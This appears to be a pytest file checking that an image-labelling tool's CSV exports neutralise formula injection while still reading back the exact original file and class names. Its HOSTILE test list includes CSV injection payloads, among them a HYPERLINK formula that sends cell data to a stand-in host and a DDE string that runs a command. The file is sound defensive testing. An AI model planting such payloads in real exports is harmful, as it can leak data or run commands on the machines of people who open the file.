"""CSV injection: crafted file and class names reach CSV exports neutralised (no cell a spreadsheet would run as a
formula), the project's table reader gets the exact original values back, and the raw option writes them raw."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from coatnet_gui.batch.corrections import write_corrected_export
from model.batch.export import FORMULA_STARTS, csv_cell, csv_value, write_export
from model.teach.dataset import labelled_from_table

HOSTILE = [
    "=1+2.png",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-foo.png",
    "@SUM(A1:A9)",
    "\tleading tab.png",
    "\rleading cr.png",
    "'=already quoted",
    "''@twice quoted",
    "'-",
]
HARMLESS = ["-1", "+2.5e3", "-.5", "'plain quote.png", "'", "", "a=b", "plain.png", "0.75"]


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def evaluated(cell: str) -> bool:
    """Return whether a spreadsheet would take ``cell`` as a formula (plain numbers are shown as numbers)."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE + HARMLESS)
def test_a_cell_is_never_a_formula_and_reads_back_exactly(value: str):
    cell = csv_cell(value)
    assert not evaluated(cell)
    assert csv_value(cell) == value
    assert csv_cell(csv_value(cell)) == cell  # a cell as written is a fixed point: nothing is escaped twice


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_values_are_left_as_they_are(value: str):
    assert csv_cell(value) == value


def record(path: str, labels: list[str], error: str | None = None) -> dict:
    probs = [0.6, 0.3, 0.1][: len(labels)]
    return {
        "path": path,
        "labels": labels,
        "indices": list(range(len(labels))),
        "probs": probs,
        "model": "=model()",
        "device": "cpu",
        "precision": "fp32",
        "error": error,
    }


def crafted_records() -> list[dict]:
    names = [h for h in HOSTILE if "\r" not in h and "\t" not in h]  # class names teaching accepts
    files = [name.replace("/", "|") for name in HOSTILE]  # a file name holds no slash
    rows = [record(name, [names[i % len(names)], names[(i + 1) % len(names)]]) for i, name in enumerate(files)]
    return rows + [record("=broken.png", [], error="=cannot decode")]


def test_export_neutralises_every_cell_and_the_table_reader_reads_the_originals(tmp_path: Path):
    records = crafted_records()
    out = tmp_path / "labels.csv"
    counts = write_export(records, out)
    assert (counts.labelled, counts.failed) == (len(records) - 1, 1)
    rows = cells_of(out)
    assert [cell for row in rows for cell in row if evaluated(cell)] == []
    assert rows[1][0] == "'=1+2.png"  # behind a quote, as OWASP advises

    table = labelled_from_table(out)
    got = {Path(p).name: table.classes[label] for p, label in zip(table.paths, table.labels, strict=True)}
    assert got == {r["path"]: r["labels"][0] for r in records if not r["error"]}
    assert any(p.endswith("=broken.png") for p, _ in table.skipped)


def test_the_raw_option_writes_values_unchanged_and_jsonl_stays_raw(tmp_path: Path):
    records = crafted_records()
    raw = tmp_path / "raw.csv"
    write_export(records, raw, raw=True)
    rows = cells_of(raw)
    assert [row[0] for row in rows[1:]] == [r["path"] for r in records]
    assert rows[1][0] == "=1+2.png" and rows[1][7] == "=model()"

    jsonl = tmp_path / "labels.jsonl"
    write_export(records, jsonl)
    assert [json.loads(line)["path"] for line in jsonl.read_text(encoding="utf-8").splitlines()] == [
        r["path"] for r in records
    ]


def test_the_corrected_export_is_neutralised_and_its_corrections_read_back(tmp_path: Path):
    records = crafted_records()
    out = tmp_path / "corrected.csv"
    corrections = {"-foo.png": "@corrected class", "=1+2.png": "=1+1"}
    write_corrected_export(records, out, corrections)
    rows = cells_of(out)
    assert rows[0][-1] == "corrected"
    assert [cell for row in rows for cell in row if evaluated(cell)] == []

    table = labelled_from_table(out)
    got = {Path(p).name: table.classes[label] for p, label in zip(table.paths, table.labels, strict=True)}
    assert got["-foo.png"] == "@corrected class" and got["=1+2.png"] == "=1+1"
    assert got["@SUM(A1:A9)"] == records[HOSTILE.index("@SUM(A1:A9)")]["labels"][0]


def test_a_hand_written_table_with_quoted_newlines_and_a_bare_quote_reads_as_written(tmp_path: Path):
    table = tmp_path / "hand.csv"
    table.write_text("path,label\r\n\"two\nlines.png\",cat\r\n'notes.png,'dog\r\n-x.png,-1\r\n", encoding="utf-8")
    data = labelled_from_table(table)
    got = {Path(p).name: data.classes[label] for p, label in zip(data.paths, data.labels, strict=True)}
    assert got == {"two\nlines.png": "cat", "'notes.png": "'dog", "-x.png": "-1"}
